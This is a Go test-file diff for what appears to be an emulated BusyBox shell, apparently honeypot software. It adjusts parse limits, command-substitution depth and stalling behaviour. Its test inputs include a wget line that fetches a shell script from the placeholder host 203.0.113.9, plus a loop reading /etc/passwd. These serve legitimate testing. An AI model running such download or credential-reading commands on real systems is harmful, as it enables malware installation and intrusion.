@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"debug/elf"
+	"errors"
 	"fmt"
 	"runtime"
 	"strconv"
@@ -126,19 +127,17 @@ func TestParseLine(t *testing.T) {
 		}
 	}
 	for line, msg := range map[string]string{
-		`echo 'abc`:                 "sh: syntax error: unterminated quoted string",
-		`; ls`:                      `sh: syntax error: unexpected ";"`,
-		`ls &&`:                     "sh: syntax error: unexpected end of file",
-		`ls >`:                      "sh: syntax error: unexpected newline",
-		`;;`:                        `sh: syntax error: unexpected ";;"`,
-		`if true; then echo yes`:    `sh: syntax error: unexpected end of file (expecting "fi")`,
-		`fi`:                        `sh: syntax error: unexpected "fi"`,
-		`while true; echo; done`:    `sh: syntax error: unexpected "done" (expecting "do")`,
-		`( ls`:                      `sh: syntax error: unexpected end of file (expecting ")")`,
-		`{ ls; `:                    `sh: syntax error: unexpected end of file (expecting "}")`,
-		`echo $(echo $(echo $(x)))`: "sh: out of memory",
-		// As Debian's busybox says it; ${a%b} is a valid pattern form.
-		`echo ${a!b}`: "sh: syntax error: bad substitution",
+		`echo 'abc`:              "sh: syntax error: unterminated quoted string",
+		`; ls`:                   `sh: syntax error: unexpected ";"`,
+		`ls &&`:                  "sh: syntax error: unexpected end of file",
+		`ls >`:                   "sh: syntax error: unexpected newline",
+		`;;`:                     `sh: syntax error: unexpected ";;"`,
+		`if true; then echo yes`: `sh: syntax error: unexpected end of file (expecting "fi")`,
+		`fi`:                     `sh: syntax error: unexpected "fi"`,
+		`while true; echo; done`: `sh: syntax error: unexpected "done" (expecting "do")`,
+		`( ls`:                   `sh: syntax error: unexpected end of file (expecting ")")`,
+		`{ ls; `:                 `sh: syntax error: unexpected end of file (expecting "}")`,
+		strings.Repeat("echo $(", maxSubst+1) + "x" + strings.Repeat(")", maxSubst+1): errTooComplex.Error(),
 	} {
 		if _, err := parseLine(line); err == nil || err.Error() != msg {
 			t.Errorf("%q: error %v, want %q", line, err, msg)
@@ -147,7 +146,7 @@ func TestParseLine(t *testing.T) {
 	if _, err := parseLine(strings.Repeat("a;", maxCommands)); err != nil {
 		t.Errorf("%d commands refused: %v", maxCommands, err)
 	}
-	if _, err := parseLine(strings.Repeat("a;", maxCommands+1)); err == nil || err.Error() != "sh: out of memory" {
+	if _, err := parseLine(strings.Repeat("a;", maxCommands+1)); !errors.Is(err, errTooComplex) {
 		t.Errorf("too many commands: %v", err)
 	}
 	// Nesting is bounded: deep parentheses cost no deep recursion.
@@ -414,7 +413,8 @@ func TestCommandSubstitution(t *testing.T) {
 		{`echo $(echo $(echo two))`, "two\n"},
 		{`echo $(cd /tmp; pwd); pwd`, "/tmp\n/\n"}, // a subshell
 		{`echo $(exit 3)x`, "x\n"},
-		{`echo $(echo $(echo $(echo three)))`, "sh: out of memory\n"},
+		{`echo $(echo $(echo $(echo three)))`, "three\n"},
+		{strings.Repeat("echo $(", maxSubst) + "echo deep" + strings.Repeat(")", maxSubst), "deep\n"},
 		{`echo $(cat /dev/zero | wc -c)`, "65536\n"},
 		{`echo $(wget http://203.0.113.9/x.sh -O -)`, "Connecting to 203.0.113.9 (203.0.113.9:80)\n-                    100% |*******************************|    10  0:00:00 ETA\n#!/bin/sh\n"},
 	})
@@ -439,7 +439,8 @@ func TestControlStructures(t *testing.T) {
 		{`for i in 1 2 3; do echo $i; break; done`, "1\n"},
 		{`printf 'a\nb\nc\n' > /tmp/l; while read l; do echo "[$l]"; done < /tmp/l`, "[a]\n[b]\n[c]\n"},
 		{`echo x y | while read a b; do echo $b $a; done`, "y x\n"},
-		{`while true; do echo y; done | wc -l`, "1000\n"},
+		// An endless loop never ends: wc is still waiting (see stall.go).
+		{`while true; do echo y; done | wc -l`, ""},
 		{`i=0; until [ $i = 1 ]; do echo loop; i=1; done`, "loop\n"},
 		{`false || (echo b; echo c)`, "b\nc\n"},
 		{`true || (echo b; echo c)`, ""},
@@ -470,9 +471,12 @@ func TestCommandLimit(t *testing.T) {
 	if out := string(sh.run(ctx, strings.Repeat("true;", 511)+"echo ok")); out != "ok\n" {
 		t.Errorf("512 commands: %q", out)
 	}
-	if out := string(sh.run(ctx, strings.Repeat("true;", 512)+"echo ok")); out != "sh: out of memory\n" {
-		t.Errorf("513 commands: %q", out)
+	// Past the parser's bounds nothing is printed: the line "runs" on
+	// (see stall.go).
+	if r := sh.Run(strings.Repeat("true;", 512) + "echo ok"); len(r.Output) != 0 || r.Limit != "parse" || !r.Running {
+		t.Errorf("513 commands: %q, limit %q, running %v", r.Output, r.Limit, r.Running)
 	}
+	sh.Interrupt()
 	// Loops multiply commands: the line stops at its step budget.
 	start := time.Now()
 	sh.run(ctx, "while true; do while true; do while true; do cat /etc/passwd | grep root | wc -l; done; done; done")
@@ -518,7 +522,7 @@ func TestProcPids(t *testing.T) {
 	runAll(t, sh, []struct{ line, want string }{
 		{"cat /proc/577/cmdline", "/var/Sofia\x00"},
 		{"cat /proc/651/cmdline", "-sh\x00"},
-		{"ls -d /proc/1 /proc/540", "/proc/1\n/proc/540\n"},
+		{"ls -d /proc/540 /proc/1", "/proc/1  /proc/540\n"}, // sorted, in columns on a terminal, as BusyBox does
 	})
 }
 
